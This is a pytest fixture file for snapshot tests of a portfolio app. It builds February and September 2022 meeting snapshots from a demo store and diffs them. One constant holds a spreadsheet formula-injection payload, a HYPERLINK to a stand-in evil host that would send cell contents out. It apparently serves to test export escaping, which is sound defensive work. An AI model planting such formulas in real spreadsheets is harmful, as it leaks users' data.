"""Fixtures of the snapshot tests: the demo store with the two meetings frozen."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from sqlalchemy import Engine

from portfolio.db import read_session
from portfolio.snapshots.diff import SnapshotDiff
from portfolio.snapshots.freeze import FrozenSnapshot, create_snapshot, load_snapshot
from portfolio.snapshots.service import diff_since_previous

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@dataclass
class DemoSnapshots:
    engine: Engine
    february: FrozenSnapshot
    september: FrozenSnapshot
    diff: SnapshotDiff


@pytest.fixture
def demo_snapshots(demo_engine: Engine) -> Iterator[DemoSnapshots]:
    """The demo store with snapshots for the 2 February and 8 September 2022 meetings."""
    first = create_snapshot(demo_engine, label="Møde 2. februar 2022", as_of=dt.date(2022, 2, 2), actor="test")
    second = create_snapshot(demo_engine, label="Møde 8. september 2022", actor="test")
    with read_session(demo_engine) as session:
        february, september = load_snapshot(session, first.id), load_snapshot(session, second.id)
        # against February (the demo's own meeting snapshots lie between the two)
        diff = diff_since_previous(session, september, base_id=first.id)
    assert diff is not None
    yield DemoSnapshots(demo_engine, february, september, diff)
